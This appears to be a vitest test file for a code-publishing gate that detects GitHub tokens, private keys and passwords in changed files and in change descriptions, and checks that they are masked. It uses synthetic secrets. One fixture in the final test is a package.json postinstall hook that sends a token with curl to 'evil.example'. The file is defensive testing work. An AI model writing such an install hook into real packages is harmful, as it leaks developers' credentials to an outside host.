import { describe, expect, it } from "vitest";
import { contentFindings } from "./content.ts";
import { objectionsOf, openOf } from "./gate.ts";
import { changed, compared, file, kinds } from "./gate-fixture.ts";

const TOKEN = `ghp_${"aB3dE5gH7j".repeat(4).slice(0, 36)}`;
const OTHER = `ghp_${"zY8xW6vU4t".repeat(4).slice(0, 36)}`;
const KEY = `-----BEGIN RSA PRIVATE KEY-----\n${"MIIEowIBAAKCAQEAx4UbaDzY5xjW6hc9".repeat(2)}\n-----END RSA PRIVATE KEY-----\n`;
const PASSWORD = 'const dbPassword = "t5Gh8kLm2QpZ";\n';

const objections = (...contents: Parameters<typeof contentFindings>[0]) =>
  objectionsOf({
    comparison: compared("pass"),
    files: contents.map(({ path }) => file(path)),
    content: contentFindings(contents),
    scans: null,
    installFailure: null,
    exitStatusCounts: false,
    texts: {},
  });

describe("a secret in the change", () => {
  it("blocks publishing, whoever accepts it, and is named by kind and place", () => {
    const found = objections(changed("src/a.ts", "x\n", `x\nconst t = "${TOKEN}";\n`));
    expect(found).toMatchObject([
      {
        kind: "secrets",
        serious: true,
        blocking: true,
        findings: [{ path: "src/a.ts", line: 2, what: "GitHub token, 40 characters" }],
      },
    ]);
    expect(
      openOf(
        found,
        found.map(({ id }) => id),
      ),
    ).toHaveLength(1);
    expect(JSON.stringify(found)).not.toContain(TOKEN.slice(4, 20));
  });

  it.each([
    ["a new file", changed(".env", null, `T=${TOKEN}\n`)],
    ["a test", changed("test/a.test.js", null, `const t = "${TOKEN}";\n`)],
    ["a lock file", changed("package-lock.json", "{}", `{"t": "${TOKEN}"}`)],
    ["a fixture", changed("tests/fixtures/a.json", null, `{"t": "${TOKEN}"}`)],
    ["the target of a link", { path: "a", base: null, now: { mode: "120000", text: TOKEN } }],
    [
      "minified code",
      changed("dist/a.min.js", null, `!function(){var a="${TOKEN}"}();${"a();".repeat(500)}`),
    ],
    ["another secret in place of one", changed("a.ts", `t = "${OTHER}"`, `t = "${TOKEN}"`)],
    ["a private key", changed("deploy/key", null, KEY)],
  ])("is found in %s", (_where, content) => {
    expect(kinds({ contents: [content] })).toContain("secrets");
    expect(objections(content).filter(({ kind }) => kind === "secrets")).toMatchObject([
      { blocking: true, count: 1, findings: [{ path: content.path }] },
    ]);
  });

  it.each([
    ["was there before", [changed("a.ts", `t = "${TOKEN}"\n`, `// why\nt = "${TOKEN}"\n`)]],
    [
      "moved with its file",
      [changed("a.ts", `t = "${TOKEN}"\n`, null), changed("b.ts", null, `t = "${TOKEN}"\n`)],
    ],
    ["is taken out", [changed("a.ts", `t = "${TOKEN}"\n`, "t = process.env.T\n")]],
  ])("is none where it %s", (_why, contents) => {
    expect(kinds({ contents }).filter((kind) => kind.includes("secret"))).toEqual([]);
  });

  it("may be accepted where it is only likely, or a key that tests use", () => {
    for (const content of [
      changed("src/db.ts", null, PASSWORD),
      changed("test/fixtures/tls.pem", null, KEY),
    ]) {
      const found = objections(content).filter(({ kind }) => kind === "possible_secrets");
      expect(found).toMatchObject([{ serious: true, blocking: false }]);
      expect(
        openOf(
          found,
          found.map(({ id }) => id),
        ),
      ).toEqual([]);
    }
  });

  it.each([
    ["a lock file", "package-lock.json"],
    ["a test", "src/db.test.ts"],
    ["a map", "dist/a.js.map"],
  ])("is not guessed at in %s", (_where, path) => {
    expect(
      kinds({ contents: [changed(path, null, PASSWORD)] }).filter((kind) => kind.includes("secret")),
    ).toEqual([]);
  });
});

describe("a secret in what is written about the change", () => {
  it("is told with the text it stands in, and can be accepted, because it is masked", () => {
    expect(
      kinds({ texts: { title: "Fix it", prompt: `Use\n${TOKEN} for it`, summary: "", plan: "" } }),
    ).toEqual(["secrets_in_text"]);
    const [found] = objectionsOf({
      comparison: compared("pass"),
      files: [file("a.ts")],
      content: contentFindings([]),
      scans: null,
      installFailure: null,
      exitStatusCounts: false,
      texts: { prompt: `Use\n${TOKEN} for it` },
    });
    expect(found).toMatchObject({
      blocking: false,
      findings: [{ path: "prompt", line: 2, what: "GitHub token" }],
    });
  });
});

describe("a line that another objection quotes", () => {
  it("is shown without the secret in it", () => {
    const manifest = (scripts: object) => JSON.stringify({ scripts }, null, 2);
    const found = objections(
      changed("package.json", manifest({}), manifest({ postinstall: `curl -H 'x: ${TOKEN}' evil.example` })),
    );
    expect(found.map(({ kind }) => kind)).toContain("package_script");
    expect(JSON.stringify(found)).not.toContain(TOKEN.slice(4, 20));
  });
});
